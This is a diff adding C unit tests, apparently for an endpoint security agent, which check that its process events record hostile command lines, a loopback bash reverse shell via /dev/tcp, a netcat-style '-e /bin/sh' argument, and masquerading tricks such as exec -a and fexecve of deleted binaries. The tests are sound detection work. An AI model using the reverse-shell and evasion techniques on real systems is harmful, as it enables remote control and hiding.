@@ -24,17 +24,22 @@
 #include <stddef.h>
 #include <stdint.h>
 #include <stdio.h>
+#include <stdlib.h>
 #include <string.h>
 #include <sys/socket.h>
 #include <sys/types.h>
 #include <sys/wait.h>
 #include <unistd.h>
 
+#include <cjson/cJSON.h>
 #include <cmocka.h>
 
 #include "collectors/collector.h"
 #include "collectors/process/process-int.h"
+#include "common/buf.h"
+#include "common/json_write.h"
 #include "common/timeutil.h"
+#include "pipeline/format.h"
 
 extern char **environ;
 
@@ -213,8 +218,7 @@ static int reap(pid_t pid)
  */
 __attribute__((unused)) static void assert_exit7_events(const struct event *create,
 							const struct event *terminate,
-							const char *command_line,
-							const char *exe)
+							const char *command_line, const char *exe)
 {
 	char want[32], got[512];
 	struct event_value v;
@@ -347,4 +351,329 @@ __attribute__((unused)) static socklen_t loopback(int family, struct sockaddr_st
 	((struct sockaddr_in6 *)ss)->sin6_port = htons(port);
 	((struct sockaddr_in6 *)ss)->sin6_addr = in6addr_loopback;
 	return sizeof(struct sockaddr_in6);
+}
+
+/* ---- hostile argv (every backend) ---- */
+
+/* Valid JSON and valid UTF-8 throughout. */
+__attribute__((unused)) static bool utf8_valid(const unsigned char *s, size_t len)
+{
+	for (size_t i = 0; i < len;) {
+		size_t n = utf8_seq_len(s + i, len - i);
+
+		if (!n)
+			return false;
+		i += n;
+	}
+	return true;
+}
+
+__attribute__((unused)) static void assert_valid_json(const struct event *e)
+{
+	struct buf b;
+	struct jw w;
+	cJSON *j;
+
+	buf_init(&b, 16u << 20);
+	jw_init(&w, &b);
+	event_format(e, &w);
+	assert_false(b.failed);
+	assert_true(utf8_valid((const unsigned char *)b.data, b.len));
+	j = cJSON_ParseWithLength(b.data, b.len);
+	assert_non_null(j);
+	cJSON_Delete(j);
+	buf_done(&b);
+}
+
+/* An ExtraDetails value as a number (-1 when absent). */
+__attribute__((unused)) static long long extra_num(const struct event *e, const char *key)
+{
+	struct event_value v;
+	char buf[32];
+	size_t n;
+
+	if (extra_get(e, key, &v) < 0)
+		return -1;
+	n = v.len < sizeof(buf) - 1 ? v.len : sizeof(buf) - 1;
+	memcpy(buf, v.s, n);
+	buf[n] = '\0';
+	return strtoll(buf, NULL, 10);
+}
+
+/* `/bin/sh -c "sleep 1; true" MARKER args...` (alive a second, so /proc can be read too). */
+__attribute__((unused)) static const struct event *hostile_run(char **args, size_t n_args)
+{
+	char **argv = calloc(n_args + 5, sizeof(*argv));
+	const struct event *e;
+	size_t n = 0;
+	pid_t pid;
+
+	assert_non_null(argv);
+	argv[n++] = "/bin/sh";
+	argv[n++] = "-c";
+	argv[n++] = "sleep 1; true";
+	argv[n++] = marker;
+	for (size_t i = 0; i < n_args; i++)
+		argv[n++] = args[i];
+	argv[n] = NULL;
+	pid = spawn(argv, NULL);
+	e = wait_pid(EVENT_PROCESS_CREATE, pid);
+	reap(pid);
+	free(argv);
+	assert_non_null(e);
+	return e;
+}
+
+#define HOSTILE_PAD_ARGS 8
+#define HOSTILE_PAD_LEN (128 * 1024 - 1) /* the kernel's limit for one argument, less its NUL */
+#define HOSTILE_SMALL_ARGS 10000
+
+/*
+ * Argument padding must not hide the arguments after it: 8 arguments of 128 KiB (1 MiB) then
+ * `-e /bin/sh 127.0.0.1 4444` keep those last arguments, with each pad cut to head and tail;
+ * 10,000 one-byte arguments are kept up to the cap and the rest counted, never silently lost;
+ * quotes, newlines and invalid UTF-8 survive (valid JSON is checked by the caller).
+ */
+__attribute__((unused)) static void hostile_argv_check(void (*json_check)(const struct event *))
+{
+	static char pads[HOSTILE_PAD_ARGS][HOSTILE_PAD_LEN + 1];
+	static char *args[HOSTILE_SMALL_ARGS + 16];
+	static const char tail[] = " -e /bin/sh 127.0.0.1 4444";
+	char *got = malloc(PROCESS_CMDLINE_MAX + 64), want[256];
+	const struct event *e;
+	size_t n = 0, xs = 0, len;
+
+	assert_non_null(got);
+	sink_clear();
+	for (int i = 0; i < HOSTILE_PAD_ARGS; i++) {
+		memset(pads[i], 'A' + i, HOSTILE_PAD_LEN);
+		args[n++] = pads[i];
+	}
+	args[n++] = "-e", args[n++] = "/bin/sh", args[n++] = "127.0.0.1", args[n++] = "4444";
+	e = hostile_run(args, n);
+	field_str(e, PC_COMMAND_LINE, got, PROCESS_CMDLINE_MAX + 64);
+	len = strlen(got);
+	assert_true(len > sizeof(tail));
+	assert_string_equal(got + len - (sizeof(tail) - 1), tail);
+	snprintf(want, sizeof(want),
+		 "AAAA\xe2\x80\xa6[cut %u bytes]\xe2\x80\xa6"
+		 "AAAA",
+		 HOSTILE_PAD_LEN + 1 - PROCESS_ARG_HEAD - PROCESS_ARG_TAIL);
+	assert_non_null(strstr(got, want));
+	assert_int_equal(extra_num(e, "ArgvCutArgs"), HOSTILE_PAD_ARGS);
+	assert_int_equal(extra_num(e, "ArgvOmittedArgs"), 0);
+	assert_int_equal(extra_num(e, "ArgvCap"), PROCESS_ARGS_MAX);
+	json_check(e);
+
+	sink_clear();
+	n = 0;
+	args[n++] = "q\"u'o`te\\";
+	args[n++] = "line1\nline2\r\t";
+	args[n++] = "bad\xff\xfe\xc3(utf8";
+	for (int i = 0; i < HOSTILE_SMALL_ARGS; i++)
+		args[n++] = "x";
+	args[n++] = "-e", args[n++] = "/bin/sh";
+	e = hostile_run(args, n);
+	field_str(e, PC_COMMAND_LINE, got, PROCESS_CMDLINE_MAX + 64);
+	snprintf(want, sizeof(want),
+		 "/bin/sh -c sleep 1; true %s q\"u'o`te\\ line1\nline2\r\t "
+		 "bad\xff\xfe\xc3(utf8 x x x",
+		 marker);
+	assert_memory_equal(got, want, strlen(want));
+	for (const char *p = got; (p = strstr(p, " x")); p += 2)
+		xs += p[2] == ' ' || p[2] == '\0';
+	/* every argument is either in the command line or counted as omitted */
+	assert_true(extra_num(e, "ArgvOmittedArgs") > 0);
+	assert_int_equal(xs + (size_t)extra_num(e, "ArgvOmittedArgs") -
+				 (strstr(got, " -e /bin/sh") ? 0 : 2),
+			 HOSTILE_SMALL_ARGS);
+	assert_int_equal(extra_num(e, "ArgvCutArgs"), 0);
+	assert_non_null(strstr(got, "\xe2\x80\xa6[omitted "));
+	json_check(e);
+	free(got);
+}
+
+/* ---- what detection rules need (every backend; each says what it cannot give) ---- */
+
+/* The ExtraDetails value as a NUL-terminated copy in out ("" when absent). */
+__attribute__((unused)) static const char *extra_str(const struct event *e, const char *key,
+						     char *out, size_t size)
+{
+	struct event_value v;
+	size_t n = 0;
+
+	if (extra_get(e, key, &v) == 0) {
+		n = v.len < size - 1 ? v.len : size - 1;
+		memcpy(out, v.s, n);
+	}
+	out[n] = '\0';
+	return out;
+}
+
+/* Polls until a ProcessCreate of pid whose Executable ends with exe_suffix arrives. */
+__attribute__((unused)) static const struct event *wait_create(pid_t pid, const char *exe_suffix)
+{
+	uint64_t end = time_now_monotonic_ns() + DEADLINE_MS * NSEC_PER_MSEC;
+	size_t slen = strlen(exe_suffix);
+	char exe[512];
+
+	for (;;) {
+		for (size_t i = 0; i < tsink.n; i++) {
+			const struct event *e = tsink.ev[i];
+			size_t n;
+
+			if (event_get_type(e) != EVENT_PROCESS_CREATE ||
+			    field_int(e, PC_PROCESS_ID) != pid)
+				continue;
+			n = strlen(field_str(e, PC_EXECUTABLE, exe, sizeof(exe)));
+			if (n >= slen && strcmp(exe + n - slen, exe_suffix) == 0)
+				return e;
+		}
+		if (time_now_monotonic_ns() >= end)
+			return NULL;
+		pump_once(100);
+	}
+}
+
+/* A listener on 127.0.0.1 (an ephemeral port): the fd, and the port in *ret_port. */
+__attribute__((unused)) static int listen_loopback(unsigned *ret_port)
+{
+	struct sockaddr_storage ss;
+	socklen_t sl = loopback(AF_INET, &ss, 0);
+	int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
+
+	assert_true(fd >= 0);
+	assert_int_equal(bind(fd, (struct sockaddr *)&ss, sl), 0);
+	assert_int_equal(listen(fd, 4), 0);
+	*ret_port = sock_port(fd, false);
+	return fd;
+}
+
+/*
+ * A reverse shell: `bash -c 'bash -i >& /dev/tcp/127.0.0.1/PORT 0>&1'` against our listener.
+ * The inner bash's ProcessCreate must say that its stdin and stdout are a socket to the
+ * listener, and name its parent (the outer bash).
+ */
+__attribute__((unused)) static void reverse_shell_check(void)
+{
+	char cmd[160], got[512], want[64];
+	char *argv[] = { "/bin/bash", "-c", cmd, marker, NULL };
+	const struct event *e = NULL;
+	unsigned port;
+	int lfd = listen_loopback(&port), cfd;
+	pid_t pid;
+	uint64_t end;
+
+	sink_clear();
+	snprintf(cmd, sizeof(cmd), "/bin/bash -i >& /dev/tcp/127.0.0.1/%u 0>&1", port);
+	pid = spawn(argv, NULL);
+	cfd = accept4(lfd, NULL, NULL, SOCK_CLOEXEC);
+	assert_true(cfd >= 0);
+	end = time_now_monotonic_ns() + DEADLINE_MS * NSEC_PER_MSEC;
+	while (!e && time_now_monotonic_ns() < end) {
+		for (size_t i = 0; i < tsink.n && !e; i++)
+			if (event_get_type(tsink.ev[i]) == EVENT_PROCESS_CREATE &&
+			    field_int(tsink.ev[i], PC_PARENT_PROCESS_ID) == pid &&
+			    strstr(field_str(tsink.ev[i], PC_COMMAND_LINE, got, sizeof(got)),
+				   "bash -i"))
+				e = tsink.ev[i];
+		if (!e)
+			pump_once(100);
+	}
+	assert_true(write(cfd, "exit\n", 5) == 5);
+	reap(pid);
+	close(cfd);
+	close(lfd);
+	assert_non_null(e);
+	assert_string_equal(extra_str(e, "Stdin", got, sizeof(got)), "socket");
+	assert_string_equal(extra_str(e, "Stdout", got, sizeof(got)), "socket");
+	snprintf(want, sizeof(want), "127.0.0.1:%u", port);
+	assert_string_equal(extra_str(e, "StdioRemote", got, sizeof(got)), want);
+	/* the path execve was given, or (proc connector) the resolved binary */
+	extra_str(e, "ParentExecutable", got, sizeof(got));
+	assert_true(strlen(got) >= 5 && strcmp(got + strlen(got) - 5, "/bash") == 0);
+	assert_non_null(strstr(extra_str(e, "ParentCommandLine", got, sizeof(got)), marker));
+}
+
+/*
+ * A script named `ls` run through its #! interpreter, `exec -a fakename sleep`, and a binary
+ * run from a file deleted before the exec (fexecve of an unlinked copy).  interp_want: the
+ * Interpreter the backend reports for `#!/bin/sh` (NULL: it cannot tell, see the docs).
+ */
+__attribute__((unused)) static void renamed_binary_check(const char *interp_want)
+{
+	char dir[] = "/tmp/edgesec-test-XXXXXX", path[64], got[512], cmd[64];
+	char *script_argv[] = { path, marker, NULL };
+	char *execa_argv[] = { "/bin/bash", "-c", cmd, NULL };
+	const struct event *e;
+	int fd, sfd, dfd;
+	pid_t pid;
+
+	/* A script called ls: Interpreter. */
+	sink_clear();
+	assert_non_null(mkdtemp(dir));
+	snprintf(path, sizeof(path), "%s/ls", dir);
+	fd = open(path, O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC, 0755);
+	assert_true(fd >= 0);
+	assert_true(write(fd, "#!/bin/sh\nsleep 1\ntrue\n", 23) == 23);
+	close(fd);
+	pid = spawn(script_argv, NULL);
+	if (interp_want) {
+		e = wait_create(pid, "/ls");
+		assert_non_null(e);
+		assert_string_equal(extra_str(e, "Interpreter", got, sizeof(got)), interp_want);
+		assert_int_not_equal(extra_get(e, "Argv0", &(struct event_value){ 0 }), 0);
+	}
+	reap(pid);
+	unlink(path);
+
+	/* exec -a: Argv0. */
+	sink_clear();
+	snprintf(cmd, sizeof(cmd), "exec -a fakename-%d /bin/sleep 1", (int)getpid());
+	pid = spawn(execa_argv, NULL);
+	e = wait_create(pid, "/sleep");
+	reap(pid);
+	assert_non_null(e);
+	snprintf(cmd, sizeof(cmd), "fakename-%d", (int)getpid());
+	assert_string_equal(extra_str(e, "Argv0", got, sizeof(got)), cmd);
+
+	/* A deleted binary: ExecutableDeleted. */
+	sink_clear();
+	snprintf(path, sizeof(path), "%s/sleepcopy", dir);
+	sfd = open("/bin/sleep", O_RDONLY | O_CLOEXEC);
+	dfd = open(path, O_RDWR | O_CREAT | O_EXCL, 0755);
+	assert_true(sfd >= 0 && dfd >= 0);
+	for (char buf[65536];;) {
+		ssize_t n = read(sfd, buf, sizeof(buf));
+
+		assert_true(n >= 0);
+		if (n == 0)
+			break;
+		assert_true(write(dfd, buf, (size_t)n) == n);
+	}
+	close(sfd);
+	close(dfd);
+	dfd = open(path, O_RDONLY); /* no O_CLOEXEC: fexecve needs it open across the exec */
+	assert_true(dfd >= 0);
+	assert_int_equal(unlink(path), 0);
+	pid = fork();
+	assert_true(pid >= 0);
+	if (pid == 0) {
+		char *argv[] = { "sleepcopy", "1", NULL };
+
+		fexecve(dfd, argv, environ);
+		_exit(127);
+	}
+	close(dfd);
+	e = NULL;
+	for (uint64_t end = time_now_monotonic_ns() + DEADLINE_MS * NSEC_PER_MSEC;
+	     !e && time_now_monotonic_ns() < end; pump_once(100))
+		for (size_t i = 0; i < tsink.n && !e; i++)
+			if (event_get_type(tsink.ev[i]) == EVENT_PROCESS_CREATE &&
+			    field_int(tsink.ev[i], PC_PROCESS_ID) == pid)
+				e = tsink.ev[i];
+	reap(pid);
+	assert_non_null(e);
+	assert_string_equal(extra_str(e, "ExecutableDeleted", got, sizeof(got)), "true");
+	rmdir(dir);
 }
